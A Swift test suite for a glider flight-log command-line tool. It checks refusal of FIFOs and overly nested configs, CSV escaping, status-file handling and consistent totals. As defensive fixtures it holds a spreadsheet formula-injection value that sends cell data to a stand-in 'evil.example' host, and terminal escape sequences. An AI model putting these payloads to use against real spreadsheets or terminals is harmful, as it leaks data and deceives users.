import FlightLogCore
import FlightLogTestSupport
import Foundation
import Testing

#if canImport(Glibc)
import Glibc
#endif

/// Files people bring and figures a pilot reads, through the built `flightlog` on real
/// database files: FIFOs and nested configs refused at once, CSV cells that stay text, `status` from a stale or
/// hostile status file, and list, show and stats agreeing.
@Suite("brought files and agreeing figures end to end", .serialized, .timeLimit(.minutes(3)))
struct BroughtFilesTests {
    let hostile = HostileInputTests()

    /// `flightlog ARGS` as ``CLI/run`` runs it, killed after `seconds`: a hang fails the test, not the suite.
    func runBounded(_ args: [String], db: URL, dir: URL, seconds: Double = 30) throws -> ProcessResult {
        let process = Process()
        process.executableURL = builtExecutable("flightlog")
        process.arguments = args
        process.currentDirectoryURL = dir
        var environment = ProcessInfo.processInfo.environment
        environment["FLIGHTLOG_DATABASE"] = db.path
        environment["XDG_CONFIG_HOME"] = dir.appendingPathComponent("no-config").path
        environment["XDG_DATA_HOME"] = dir.appendingPathComponent("data").path
        process.environment = environment
        let out = dir.appendingPathComponent("bounded.out"), err = dir.appendingPathComponent("bounded.err")
        FileManager.default.createFile(atPath: out.path, contents: nil)
        FileManager.default.createFile(atPath: err.path, contents: nil)
        process.standardOutput = try FileHandle(forWritingTo: out)
        process.standardError = try FileHandle(forWritingTo: err)
        process.standardInput = FileHandle.nullDevice
        try process.run()
        _ = waitUntil(seconds: seconds) { !process.isRunning }
        if process.isRunning {
            kill(process.processIdentifier, SIGKILL)
            Issue.record("\(args) still ran after \(seconds) s: it hangs (killed)")
        }
        process.waitUntilExit()
        return ProcessResult(
            status: process.terminationStatus, stdout: String(decoding: try Data(contentsOf: out), as: UTF8.self),
            stderr: String(decoding: try Data(contentsOf: err), as: UTF8.self))
    }

    func importFlights(_ lines: [[String]], db: URL, dir: URL) throws {
        let names = try lines.enumerated().map { try hostile.write($0.element, "f\($0.offset).igc", in: dir) }
        let r = try CLI.run(["import"] + names, database: db, in: dir)
        try #require(r.status == 0, "\(r.stderr)")
    }

    func header(_ lines: [String], _ prefix: String, _ value: String) -> [String] {
        lines.filter { !$0.hasPrefix("G") }.map { $0.hasPrefix(prefix) ? prefix + value : $0 }
    }

    @Test func aFIFOOrDeviceInPlaceOfAFileIsRefusedAtOnce() throws {
        let dir = try makeTemporaryDirectory()
        let db = dir.appendingPathComponent("flights.sqlite")
        try importFlights([try hostile.simulatedLines(seed: 7, day: 13, in: dir)], db: db, dir: dir)
        let key = dir.appendingPathComponent("signing.key").path
        try? FileManager.default.removeItem(atPath: key)
        try #require(mkfifo(key, 0o600) == 0)
        let export = try runBounded(["export", "--igc", "--rebuild", "1", "-o", "out.igc"], db: db, dir: dir)
        #expect(export.status == 0, "written unsigned, with the reason: \(export.stderr)")
        #expect(export.stderr.contains("not a regular file"), "\(export.stderr)")
        #expect(FileManager.default.fileExists(atPath: dir.appendingPathComponent("out.igc").path))

        try #require(mkfifo(dir.appendingPathComponent("pipe").path, 0o600) == 0)
        for args in [
            ["list", "--config", "pipe"], ["import", "pipe"], ["airfields", "import", "pipe"],
            ["verify", "pipe"], ["list", "--config", "/dev/zero"], ["verify", "1", "--key", "pipe"],
            ["replay", "pipe", "--nmea", "out.nmea"],
        ] {
            let r = try runBounded(args, db: db, dir: dir)
            #expect(r.status != 0, "\(args)")
            #expect(
                r.stderr.contains("named pipe (FIFO)") || r.stderr.contains("a device")
                    || r.stderr.contains("not a regular file"),
                "\(args): \(r.stderr)")
        }
    }

    /// A FIFO among the pilot's CUP files is skipped with a notice; the fields still load.
    @Test func aFIFOAmongTheCUPFilesIsSkipped() throws {
        let dir = try makeTemporaryDirectory()
        let folder = dir.appendingPathComponent("no-config/flightlog/airfields")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        try #require(mkfifo(folder.appendingPathComponent("sites.cup").path, 0o600) == 0)
        let r = try runBounded(
            ["airfields", "list", "--near", "51.0147,7.0053"], db: dir.appendingPathComponent("f.sqlite"), dir: dir)
        #expect(r.status == 0, "\(r.stderr)")
        #expect(r.stdout.contains("EDKL"), "\(r.stdout)")
        #expect(r.stderr.contains("sites.cup") && r.stderr.contains("not a regular file; skipped"), "\(r.stderr)")
    }

    @Test func aDeeplyNestedOrHugeConfigIsRefusedBeforeParsing() throws {
        let dir = try makeTemporaryDirectory()
        let db = dir.appendingPathComponent("flights.sqlite")
        let depth = 20_000
        let keys: String = (0..<depth).map { "k\($0)" }.joined(separator: ".")
        let open = String(repeating: "[", count: depth), close = String(repeating: "]", count: depth)
        let tables = String(repeating: "{b = ", count: depth) + "1" + String(repeating: "}", count: depth)
        let files: [String: String] = [
            "arrays.toml": "a = " + open + close + "\n", "tables.toml": "a = " + tables + "\n",
            "dotted.toml": keys + " = 1\n", "header.toml": "[" + keys + "]\n",
            "inline.toml": "a = {" + keys + " = 1}\n",
            "huge.toml": "# " + String(repeating: "x", count: 2 << 20) + "\n",
        ]
        for (name, text) in files.sorted(by: { $0.key < $1.key }) {
            try Data(text.utf8).write(to: dir.appendingPathComponent(name))
            let r = try runBounded(["list", "--config", name], db: db, dir: dir, seconds: 20)
            #expect(r.status != 0, "\(name)")
            #expect(
                r.stderr.contains(name == "huge.toml" ? "bytes" : "nested more than 32 deep"), "\(name): \(r.stderr)")
            let lineCount = r.stderr.filter { $0 == "\n" }.count
            #expect(lineCount == 1, "one line: \(r.stderr)")
        }
    }

    @Test func csvCellsFromAFileNeverRunAsFormulas() throws {
        let dir = try makeTemporaryDirectory()
        let db = dir.appendingPathComponent("flights.sqlite")
        var lines = try hostile.simulatedLines(seed: 8, day: 14, in: dir)
        lines = header(lines, "HFPLTPILOTINCHARGE:", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")")
        lines = header(lines, "HFGTYGLIDERTYPE:", "@SUM(1+1)")
        lines = header(lines, "HFGIDGLIDERID:", "+1-1")
        try importFlights([lines], db: db, dir: dir)
        let edit = try CLI.run(["edit", "1", "--remarks=\t-2+3", "--crew", "@cmd"], database: db, in: dir)
        try #require(edit.status == 0, "\(edit.stderr)")
        let r = try CLI.run(["list", "--csv"], database: db, in: dir)
        try #require(r.status == 0, "\(r.stderr)")
        let row = try #require(r.stdout.components(separatedBy: "\r\n").dropFirst().first)
        #expect(row.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""), "\(row)")
        #expect(row.contains(",'@SUM(1+1),") && row.contains(",'+1-1,") && row.contains(",'-2+3,"), "\(row)")
        #expect(row.contains(",'@cmd,crew,"), "the name is trimmed, then kept as text: \(row)")
        #expect(row.contains(",+02:00,"), "an offset stays a plain value: \(row)")
        // No cell a spreadsheet would evaluate (after the quotes of RFC 4180 come off).
        for cell in row.split(separator: ",") {
            let text = cell.hasPrefix("\"") ? cell.dropFirst() : cell
            #expect(!["=", "@"].contains(text.first.map(String.init) ?? ""), "\(cell)")
        }
    }

    @Test func statusFromAStaleOrHostileFile() throws {
        let dir = try makeTemporaryDirectory()
        let db = dir.appendingPathComponent("flights.sqlite")
        let path = dir.appendingPathComponent("flightlogd.status.json")
        let status: [String: Any] = [
            "pid": Int(getpid()), "updatedAt": "2025-06-01T10:00:00Z", "stopped": false, "gpsdConnected": false,
            "gpsdProblem": "\u{1B}]0;pwned\u{07}\u{1B}[2Jgone", "gpsMode": 3, "satellitesUsed": 9,
            "lastFixTime": "2025-06-01T09:59:57Z", "lastFixAgeSeconds": 2.9, "barometerConfigured": false,
            "gpsOnly": true, "flying": false, "recordedFixes": 10, "databaseWritable": true,
        ]
        try JSONSerialization.data(withJSONObject: status).write(to: path)
        // A year old: the pid (this test process) is alive, but the file is history.
        try FileManager.default.setAttributes(
            [.modificationDate: Date(timeIntervalSinceNow: -365 * 86_400)], ofItemAtPath: path.path)
        let old = try CLI.run(["status"], database: db, in: dir)
        #expect(old.status == 1, "a stale file is not a running recorder")
        #expect(old.stdout.hasPrefix("Status is 1 year old: flightlogd is not running\n"), "\(old.stdout)")
        #expect(old.stdout.contains("Last fix:           1 year ago, at 2025-06-01 09:59:57 UTC"), "\(old.stdout)")
        #expect(!old.stdout.contains("2.9 s") && !old.stdout.contains("3D fix"), "\(old.stdout)")
        // Fresh: the recorder runs, but a disconnected gpsd shows no fix; escapes are shown, never sent.
        try FileManager.default.setAttributes([.modificationDate: Date()], ofItemAtPath: path.path)
        let fresh = try CLI.run(["status"], database: db, in: dir)
        #expect(fresh.status == 0, "\(fresh.stdout)")
        #expect(fresh.stdout.hasPrefix("Recording but no GPS fix for "), "\(fresh.stdout)")
        #expect(
            fresh.stdout.contains("none: gpsd is not connected (\\u{1B}]0;pwned\\u{7}\\u{1B}[2Jgone)\n"),
            "\(fresh.stdout)")
        #expect(!fresh.stdout.contains("3D fix") && !fresh.stdout.contains("Status is"), "\(fresh.stdout)")
        for text in [old.stdout, fresh.stdout] {
            #expect(!text.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x07 }, "\(text.debugDescription)")
        }
    }

    /// `list` lines and footer, `stats`, the PDF's rule: a total is the sum of the minutes on the lines.
    @Test func listStatsAndFooterAgree() throws {
        let dir = try makeTemporaryDirectory()
        let db = dir.appendingPathComponent("flights.sqlite")
        let flights = try (0..<6).map { n in
            var lines = try hostile.simulatedLines(seed: 20 + n, day: 10 + n, in: dir)
            lines = header(lines, "HFGTYGLIDERTYPE:", ["Ls 4", "LS4", "ls-4", "LS_4", "ASK 21", "ASK21"][n])
            return header(lines, "HFPLTPILOTINCHARGE:", n == 5 ? "" : "Jürgen Müller")
        }
        try importFlights(flights, db: db, dir: dir)
        let listed = try CLITests().list([], db: db, dir: dir)
        #expect(listed.count == 6)
        let table = try CLI.run(["list"], database: db, in: dir, environment: ["COLUMNS": "200"])
        let times = table.stdout.split(separator: "\n").dropFirst(2).compactMap { line -> Int? in
            let cells = line.split(separator: " ", omittingEmptySubsequences: true)
            guard cells.count > 4, cells[0].allSatisfy(\.isNumber) else { return nil }
            let hm = cells[4].split(separator: ":").compactMap { Int($0) }
            return hm.count == 2 ? hm[0] * 60 + hm[1] : nil
        }
        #expect(times.count == 6, "\(table.stdout)")
        let sum = times.reduce(0, +)
        #expect(
            table.stdout.contains("6 flights, \(sum / 60):\(String(format: "%02d", sum % 60)) h,"), "\(table.stdout)")
        #expect(listed.map { Int($0.durationSeconds / 60) }.reduce(0, +) == sum)

        let stats = try CLI.run(["stats", "--json", "--owner", "Jürgen Müller"], database: db, in: dir)
        let object = try #require(try JSONSerialization.jsonObject(with: Data(stats.stdout.utf8)) as? [String: Any])
        let total = try #require(object["total"] as? [String: Any])
        let named = listed.filter { $0.pilot != nil }.map { Int($0.durationSeconds / 60) }.reduce(0, +)
        #expect(total["picMinutes"] as? Int == named, "the file without a pilot is nobody's PIC time: \(total)")
        let types = (object["byGliderType"] as? [[String: Any]])?.compactMap { $0["key"] as? String }
        #expect(types == ["ASK 21", "Ls 4"], "one row per type as --plane matches: \(types ?? [])")
        let roles = try CLITests().list(["--owner", "Jürgen Müller"], db: db, dir: dir).map(\.ownerRole)
        #expect(roles.filter { $0 == "unknown" }.count == 1, "\(roles)")
    }

    @Test func theBarogramLabelsAreTheLowestAndHighestAltitude() throws {
        let dir = try makeTemporaryDirectory()
        let db = dir.appendingPathComponent("flights.sqlite")
        let r0 = try CLI.run(
            [
                "simulate", "--launch", "winch", "--minutes", "60", "--seed", "9", "--start", "2025-06-20T10:00:00Z",
                "-o", "long.igc",
            ], database: nil, in: dir)
        try #require(r0.status == 0, "\(r0.stderr)")
        try #require(try CLI.run(["import", "long.igc"], database: db, in: dir).status == 0)
        let show = try CLI.run(["show", "1"], database: db, in: dir)
        let labels = show.stdout.split(separator: "\n").filter { $0.contains(" m │") }.compactMap {
            Int($0.split(separator: " m │")[0].trimmingCharacters(in: .whitespaces))
        }
        try #require(labels.count == 2, "\(show.stdout)")
        let igc = try String(contentsOf: dir.appendingPathComponent("long.igc"), encoding: .utf8)
        let pressure = igc.split(separator: "\r\n").filter { $0.hasPrefix("B") }.compactMap {
            Int(String(Array($0)[25..<30]))
        }
        #expect(abs(labels[1] - pressure.min()!) <= 3, "bottom label \(labels[1]), lowest fix \(pressure.min()!)")
        #expect(abs(labels[0] - pressure.max()!) <= 3, "top label \(labels[0]), highest fix \(pressure.max()!)")
    }

    @Test func placesAndZonesReadAsTheyAre() throws {
        let dir = try makeTemporaryDirectory()
        let db = dir.appendingPathComponent("flights.sqlite")
        // Leszno (Poland) and Aachen-Merzbrück (Germany): both UTC+02:00 in June, not both Europe/Berlin.
        for (n, at) in ["51.8347,16.5219", "51.0147,7.0053"].enumerated() {
            let r = try CLI.run(
                [
                    "simulate", "--launch", "aerotow", "--minutes", "15", "--seed", "\(30 + n)", "--at", at,
                    "--start", "2025-06-2\(n + 1)T10:00:00Z", "-o", "z\(n).igc",
                ], database: nil, in: dir)
            try #require(r.status == 0, "\(r.stderr)")
        }
        try #require(try CLI.run(["import", "z0.igc", "z1.igc"], database: db, in: dir).status == 0)
        let both = try CLI.run(["list"], database: db, in: dir, environment: ["COLUMNS": "200"])
        #expect(both.stdout.contains("times local, UTC+02:00"), "\(both.stdout)")
        #expect(!both.stdout.contains("Europe/Berlin"), "\(both.stdout)")
        let poland = try CLI.run(
            ["list", "--until", "2025-06-21"], database: db, in: dir, environment: ["COLUMNS": "200"])
        #expect(poland.stdout.contains("times local, Europe/Warsaw, UTC+02:00"), "\(poland.stdout)")
    }

    /// Renaming the landing place to the field it was near makes it a landing there in every view and filter.
    @Test func theOutlandingFollowsTheEditedPlace() throws {
        let dir = try makeTemporaryDirectory()
        let db = dir.appendingPathComponent("flights.sqlite")
        let r = try CLI.run(
            [
                "simulate", "--launch", "aerotow", "--minutes", "15", "--seed", "40", "--at", "51.0600,7.0053",
                "--start", "2025-06-22T10:00:00Z", "-o", "out.igc",
            ], database: nil, in: dir)
        try #require(r.status == 0, "\(r.stderr)")
        try #require(try CLI.run(["import", "out.igc"], database: db, in: dir).status == 0)
        func json() throws -> [String: Any] {
            let r = try CLI.run(["show", "1", "--json"], database: db, in: dir)
            return try #require(try JSONSerialization.jsonObject(with: Data(r.stdout.utf8)) as? [String: Any])
        }
        let before = try json()
        try #require(before["outlanding"] as? Bool == true, "\(before)")
        let field = try #require((before["landingLocation"] as? [String: Any])?["code"] as? String)
        try #require(try CLI.run(["edit", "1", "--landing-place", field], database: db, in: dir).status == 0)
        #expect(try json()["outlanding"] as? Bool == false)
        #expect(try CLITests().list(["--outlanding"], db: db, dir: dir).isEmpty)
        #expect(try CLITests().list(["--no-outlanding"], db: db, dir: dir).count == 1)
        let show = try CLI.run(["show", "1"], database: db, in: dir)
        let landing = show.stdout.split(separator: "\n").first { $0.hasPrefix("Landing:") } ?? ""
        #expect(landing.hasSuffix(" (\(field))"), "\(show.stdout)")  // the field's label, "Name (CODE)"
        let list = try CLI.run(["list"], database: db, in: dir, environment: ["COLUMNS": "200"])
        #expect(!list.stdout.contains("outlanding"), "\(list.stdout)")
        // Back to a text that says so: an outlanding again.
        try #require(
            try CLI.run(["edit", "1", "--landing-place", "Outlanding, farmer's field"], database: db, in: dir).status
                == 0)
        #expect(try json()["outlanding"] as? Bool == true)
    }
}
